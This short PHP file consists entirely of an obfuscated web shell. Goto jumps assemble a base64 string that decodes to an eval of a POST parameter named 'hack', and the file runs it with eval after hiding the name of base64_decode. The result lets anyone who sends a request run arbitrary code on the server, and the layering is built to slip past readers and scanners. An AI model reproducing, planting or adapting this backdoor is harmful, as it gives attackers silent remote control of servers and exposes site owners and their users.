<?php
goto SzSNhX;
EHdLIs: $Sx .= 'doYWNr'; goto XPqTZf;
XPqTZf: $Sx .= 'J10pOw'; goto CKOOHW;
yOHgep: $Sx .= 'T1NUWy'; goto EHdLIs;
CKOOHW: $Sx .= '=='; goto GaGzle;
XFuPqM: $Sx .= 'woJF9Q'; goto yOHgep;
SzSNhX: $Sx = 'QGV2YW'; goto XFuPqM;
GaGzle: $f = 'base' . '64_decode'; eval($f($Sx));
